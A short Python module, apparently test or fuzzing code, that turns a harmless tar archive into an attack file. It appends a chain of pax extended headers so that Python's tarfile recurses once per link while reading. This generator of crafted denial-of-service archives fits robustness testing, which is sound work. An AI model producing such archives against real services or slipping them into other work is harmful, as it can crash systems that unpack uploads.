"""Files that attack what reads them, each made of a harmless one."""

import tarfile

END_MARKS = bytes(2 * tarfile.BLOCKSIZE)


def make_pax_chain(archive: bytes, number: int) -> bytes:
    """Append headers to an archive that each describe the next one: tarfile calls itself for each."""
    header = tarfile.TarInfo("x")
    header.type, header.size = tarfile.XHDTYPE, 12
    link = header.tobuf(tarfile.USTAR_FORMAT) + b"12 path=abc\n".ljust(tarfile.BLOCKSIZE, b"\0")
    return strip_end(archive) + number * link + END_MARKS


def strip_end(archive: bytes) -> bytes:
    """Take the end marks off an archive."""
    content = archive.rstrip(b"\0")
    return content + bytes(-len(content) % tarfile.BLOCKSIZE)
